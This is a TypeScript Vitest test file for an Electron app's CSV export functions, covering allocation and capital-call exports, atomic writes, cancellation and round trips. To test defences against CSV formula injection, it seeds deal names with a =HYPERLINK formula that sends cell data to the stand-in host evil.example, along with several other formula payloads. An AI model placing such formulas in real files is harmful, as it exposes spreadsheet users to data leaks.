import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { exportAllocationsCsv, exportCapitalCallCsv, exportTableCsv } from '../../../electron/core/exports/export-csv';
import { writeFileAtomic } from '../../../electron/core/exports/write-atomic';
import { MeridianError } from '../../../shared/errors';
import { Readable } from 'node:stream';
import type { LocalDatabase } from '../../../db/sqlite/open';
import { count, csvFile, freshDb, NOW, run, seedPortfolio, tempDir } from '../imports/fixtures';

const ALLOC_HEADER = 'id,fund_id,deal_id,security_type,amount,status,date';
const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

function readCsv(file: string): string[][] {
  return parse(fs.readFileSync(file), { bom: true }) as string[][];
}

function leftovers(dir: string): string[] {
  return fs.readdirSync(dir).filter((f) => f.includes('.tmp-'));
}

async function portfolio() {
  const dir = tempDir();
  const db = freshDb(dir);
  await seedPortfolio(db, dir);
  await run(db, 'deals', csvFile(dir, 'evil.csv', ['id,name,sector,country,stage', `D4,"${EVIL.replace(/"/g, '""')}",,,`, 'D5,@SUM(1+1),,,', 'D6,-2+3,,,']));
  await run(
    db,
    'allocations',
    csvFile(dir, 'alloc.csv', [
      ALLOC_HEADER,
      'A1,F1,D1,senior_debt,1500000.00,approved,2024-01-15',
      'A2,F1,D3,common_equity,2000000.5,proposed,2024-02-01',
      'A3,F2,D4,unitranche,1000.05,committed,2024-03-01',
      'A4,F2,D5,warrant,1234.56,funded,2024-03-02',
      '=A5,F2,D6,mezzanine,99999.99,rejected,2024-03-03',
      '-A6,F2,D2,other,1000.00,cancelled,2024-03-04',
    ]),
  );
  return { dir, db };
}

describe('exportAllocationsCsv', () => {
  it('writes names beside ids, decimal amounts and the version', async () => {
    const { dir, db } = await portfolio();
    const out = path.join(dir, 'out', '..', 'allocations.csv');
    const r = await exportAllocationsCsv(db, { fundId: 'F1' }, out);
    expect(r).toEqual({ rows: 2, file: path.resolve(out) });
    expect(readCsv(out)).toEqual([
      ['id', 'fund_id', 'fund_name', 'deal_id', 'deal_name', 'security_type', 'amount', 'status', 'date', 'version'],
      ['A1', 'F1', 'Growth Fund I', 'D1', 'Acme Robotics', 'senior_debt', '1500000.00', 'approved', '2024-01-15', '0'],
      ['A2', 'F1', 'Growth Fund I', 'D3', 'Cobalt Software, Inc.', 'common_equity', '2000000.50', 'proposed', '2024-02-01', '0'],
    ]);
    expect(fs.readFileSync(out, 'utf8')).toContain('\r\n');
  });

  it('neutralises formula injection in text cells (a =HYPERLINK deal name)', async () => {
    const { dir, db } = await portfolio();
    const out = path.join(dir, 'all.csv');
    await exportAllocationsCsv(db, {}, out);
    const rows = readCsv(out);
    const byId = Object.fromEntries(rows.slice(1).map((r) => [r[0], r]));
    expect(byId['A3']![4]).toBe(`'${EVIL}`);
    expect(byId['A4']![4]).toBe("'@SUM(1+1)");
    expect(byId["'=A5"]![4]).toBe("'-2+3");
    expect(byId["'-A6"]).toBeDefined();
    expect(byId['A3']![6]).toBe('1000.05'); // amounts stay plain numbers
    for (const r of rows) for (const c of r) expect(c).not.toMatch(/^[=+@\t\r]/);
  });

  it('optionally starts with a UTF-8 BOM', async () => {
    const { dir, db } = await portfolio();
    const out = path.join(dir, 'bom.csv');
    await exportAllocationsCsv(db, {}, out, { bom: true });
    expect([...fs.readFileSync(out).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('round trip: an export imports back as the same records', async () => {
    const { dir, db } = await portfolio();
    const first = path.join(dir, 'first.csv');
    await exportAllocationsCsv(db, {}, first, { bom: true });

    // Into the same database: nothing changes.
    const same = await run(db, 'allocations', first, { now: '2031-01-01T00:00:00.000Z' });
    expect(same).toMatchObject({ rows: 6, imported: 6, unchanged: 6, skipped: 0 });

    // Into a fresh database with the same funds and deals: the same records, and the same file again.
    const dir2 = tempDir();
    const db2 = freshDb(dir2);
    await seedPortfolio(db2, dir2);
    await run(db2, 'deals', csvFile(dir2, 'evil.csv', ['id,name,sector,country,stage', `D4,"${EVIL.replace(/"/g, '""')}",,,`, 'D5,@SUM(1+1),,,', 'D6,-2+3,,,']));
    const r = await run(db2, 'allocations', first);
    expect(r).toMatchObject({ rows: 6, imported: 6 });
    const rows = (d: LocalDatabase) => d.raw.prepare('SELECT id, fund_id, deal_id, security_type, amount, status, date FROM allocation ORDER BY id').all();
    expect(rows(db2)).toEqual(rows(db));
    expect(rows(db2)).toContainEqual(expect.objectContaining({ id: '=A5' }));
    const second = path.join(dir2, 'second.csv');
    await exportAllocationsCsv(db2, {}, second, { bom: true });
    expect(fs.readFileSync(second)).toEqual(fs.readFileSync(first));
  });

  it('refuses an unknown fund without creating a file', async () => {
    const { dir, db } = await portfolio();
    const out = path.join(dir, 'none.csv');
    await expect(exportAllocationsCsv(db, { fundId: 'NOPE' }, out)).rejects.toMatchObject({ code: 'NOT_FOUND' });
    expect(fs.existsSync(out)).toBe(false);
  });

  it('streams a large export with progress and reads on its own connection', async () => {
    const dir = tempDir();
    const db = freshDb(dir);
    await seedPortfolio(db, dir);
    const lines = [ALLOC_HEADER];
    for (let i = 0; i < 30_000; i++) lines.push(`L${i},F2,D${1 + (i % 3)},senior_debt,1000.00,proposed,2024-01-15`);
    await run(db, 'allocations', csvFile(dir, 'many.csv', lines));
    const progress: number[] = [];
    const out = path.join(dir, 'many-out.csv');
    const pending = exportAllocationsCsv(db, {}, out, { onProgress: (p) => progress.push(p.done) });
    // The main connection stays usable while the export streams.
    expect(db.raw.prepare('SELECT count(*) FROM allocation').pluck().get()).toBe(30_000);
    const r = await pending;
    expect(r.rows).toBe(30_000);
    expect(progress.at(-1)).toBe(30_000);
    expect(progress.length).toBeGreaterThan(2);
    expect(readCsv(out)).toHaveLength(30_001);
  });
});

describe('a failed export leaves no file', () => {
  it('cancelled half way: no file and no temporary file', async () => {
    const dir = tempDir();
    const db = freshDb(dir);
    await seedPortfolio(db, dir);
    const lines = [ALLOC_HEADER];
    for (let i = 0; i < 30_000; i++) lines.push(`L${i},F2,D1,senior_debt,1000.00,proposed,2024-01-15`);
    await run(db, 'allocations', csvFile(dir, 'many.csv', lines));
    const ac = new AbortController();
    const out = path.join(dir, 'cancelled.csv');
    const e = await exportAllocationsCsv(db, {}, out, { signal: ac.signal, onProgress: (p) => p.done >= 10_000 && ac.abort() }).catch((x: unknown) => x);
    expect(e).toBeInstanceOf(MeridianError);
    expect((e as MeridianError).code).toBe('CANCELLED');
    expect(fs.existsSync(out)).toBe(false);
    expect(leftovers(dir)).toEqual([]);
  });

  it('an error while writing keeps the previous file intact and removes the temporary one', async () => {
    const { dir, db } = await portfolio();
    const out = path.join(dir, 'keep.csv');
    fs.writeFileSync(out, 'previous export\n');
    const boom = exportTableCsv(
      db,
      {
        columns: ['id'],
        sql: 'SELECT id FROM allocation ORDER BY id',
        row: (r) => {
          if (r[0] === 'A3') throw new Error('disk on fire');
          return r as string[];
        },
      },
      out,
    );
    await expect(boom).rejects.toThrow('disk on fire');
    expect(fs.readFileSync(out, 'utf8')).toBe('previous export\n');
    expect(leftovers(dir)).toEqual([]);
  });

  it('an unwritable destination fails cleanly', async () => {
    const { dir, db } = await portfolio();
    await expect(exportAllocationsCsv(db, {}, path.join(dir, 'missing-folder', 'x.csv'))).rejects.toThrow();
    fs.mkdirSync(path.join(dir, 'a-folder'));
    await expect(exportAllocationsCsv(db, {}, path.join(dir, 'a-folder'))).rejects.toThrow();
    expect(fs.statSync(path.join(dir, 'a-folder')).isDirectory()).toBe(true);
    expect(leftovers(dir)).toEqual([]);
  });

  it('writeFileAtomic removes its temporary file when the source fails', async () => {
    const dir = tempDir();
    const out = path.join(dir, 'x.txt');
    async function* failing() {
      yield 'partial data\n';
      throw new Error('source failed');
    }
    await expect(writeFileAtomic(out, [Readable.from(failing())])).rejects.toThrow('source failed');
    expect(fs.readdirSync(dir)).toEqual([]);
    await writeFileAtomic(out, [Readable.from(['ok\n'])]);
    expect(fs.readFileSync(out, 'utf8')).toBe('ok\n');
  });
});

describe('exportCapitalCallCsv', () => {
  function seedCall(db: LocalDatabase) {
    const s = (sql: string, ...p: unknown[]) => db.raw.prepare(sql).run(...p);
    s("INSERT INTO commitment (id, investor_id, fund_id, amount, version, updated_at, updated_by) VALUES ('C1', 'I1', 'F1', 500000000, 0, ?, 'u')", NOW);
    s("INSERT INTO commitment (id, investor_id, fund_id, amount, version, updated_at, updated_by) VALUES ('C2', 'I2', 'F1', 300000000, 0, ?, 'u')", NOW);
    s("INSERT INTO capital_call (id, fund_id, call_date, due_date, amount, status, version, updated_at, updated_by) VALUES ('CC1', 'F1', '2025-01-10', '2025-02-10', 80000000, 'partially_paid', 3, ?, 'u')", NOW);
    s("INSERT INTO capital_call_line (id, call_id, investor_id, basis_amount, amount, paid, version, updated_at, updated_by) VALUES ('CC1/I1', 'CC1', 'I1', 500000000, 50000000, 50000000, 3, ?, 'u')", NOW);
    s("INSERT INTO capital_call_line (id, call_id, investor_id, basis_amount, amount, paid, version, updated_at, updated_by) VALUES ('CC1/I2', 'CC1', 'I2', 300000000, 30000000, 1000050, 3, ?, 'u')", NOW);
  }

  it('writes one row per LP line with commitment, amount, paid and outstanding', async () => {
    const { dir, db } = await portfolio();
    seedCall(db);
    const out = path.join(dir, 'call.csv');
    const r = await exportCapitalCallCsv(db, { callId: 'CC1' }, out, { today: '2025-03-01' });
    expect(r.rows).toBe(2);
    expect(readCsv(out)).toEqual([
      ['call_id', 'fund_id', 'fund_name', 'call_date', 'due_date', 'call_status', 'investor_id', 'investor_name', 'commitment', 'amount', 'paid', 'outstanding'],
      ['CC1', 'F1', 'Growth Fund I', '2025-01-10', '2025-02-10', 'overdue', 'I2', 'Endowment B', '3000000.00', '300000.00', '10000.50', '289999.50'],
      ['CC1', 'F1', 'Growth Fund I', '2025-01-10', '2025-02-10', 'overdue', 'I1', 'Pension Plan A', '5000000.00', '500000.00', '500000.00', '0.00'],
    ]);
    await exportCapitalCallCsv(db, { callId: 'CC1' }, out, { today: '2025-02-01' });
    expect(readCsv(out)[1]![5]).toBe('partially_paid');
  });

  it('refuses an unknown call without creating a file', async () => {
    const { dir, db } = await portfolio();
    const out = path.join(dir, 'nocall.csv');
    await expect(exportCapitalCallCsv(db, { callId: 'nope' }, out)).rejects.toMatchObject({ code: 'NOT_FOUND' });
    expect(fs.existsSync(out)).toBe(false);
    expect(count(db, 'capital_call')).toBe(0);
  });
});
